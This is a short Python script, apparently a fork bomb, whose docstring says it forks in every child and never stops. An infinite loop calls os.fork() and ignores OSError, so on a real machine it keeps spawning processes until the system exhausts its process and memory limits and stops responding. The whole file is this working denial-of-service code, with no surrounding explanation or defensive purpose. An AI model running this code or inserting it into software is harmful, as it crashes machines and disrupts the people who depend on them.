"""Fork in every child as well, and never stop."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
